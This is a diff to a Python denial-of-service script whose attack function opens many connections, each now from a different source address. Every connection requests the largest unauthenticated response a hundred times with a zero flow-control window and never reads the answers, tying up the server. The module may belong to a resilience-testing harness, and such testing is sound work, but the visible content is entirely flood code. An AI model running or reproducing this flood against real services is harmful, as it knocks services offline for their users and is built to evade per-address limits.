@@ -1,5 +1,6 @@
 # SPDX-License-Identifier: Apache-2.0
-"""Asks for the largest answers there are without a token, a hundred at a time on each of many connections, and reads none."""
+"""Asks for the largest answers there are without a token, a hundred at a time on each of many connections, each from another
+address, and reads none."""
 import struct
 
 from lib.flood import Shut, headers, request_block
@@ -13,7 +14,7 @@ def attack(target):
     block = request_block("/openapi.yaml", "GET")
     lines, shut = [], 0
     while target.is_on():
-        if len(lines) < CONNECTIONS and (line := target.line()) is not None:
+        if len(lines) < CONNECTIONS and (line := target.line(1 + len(lines))) is not None:
             lines.append(line)
             try:
                 line.send(no_window + b"".join(headers(s, block) for s in range(1, 201, 2)))
